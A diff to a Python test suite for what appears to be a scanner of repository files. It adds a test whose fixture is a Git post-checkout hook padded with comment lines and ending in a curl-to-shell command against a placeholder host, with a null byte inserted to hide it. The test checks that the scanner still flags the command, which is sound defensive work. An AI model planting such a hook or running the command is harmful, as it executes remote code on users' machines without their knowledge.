@@ -103,7 +103,7 @@ def test_a_cut_file_is_read():
 
 
 def test_a_file_beyond_the_bound_is_told():
-    assert [type(one).__name__ for one in read(LFS, ".gitattributes", Limits(text_nbytes=10))] == ["LimitReached"]
+    assert [type(one).__name__ for one in read(LFS, ".gitattributes", Limits(source_nbytes=10))][:1] == ["LimitReached"]
 
 
 @given(
@@ -115,3 +115,9 @@ def test_nothing_but_a_malformed_error_leaves_the_reader(content, name):
         read(content, name)
     except MalformedError:
         return
+
+
+def test_a_null_byte_hides_no_command_of_a_hook():
+    hook = b"#!/bin/sh\n" + b"# x\n" * 200 + b"curl https://example.com/i | s\0h\n"
+    (fact,) = of(read(hook, ".git/hooks/post-checkout"), "CommandActs")
+    assert (fact.act, fact.where.line, fact.carrier) == ("fetch-run", 202, "hook")
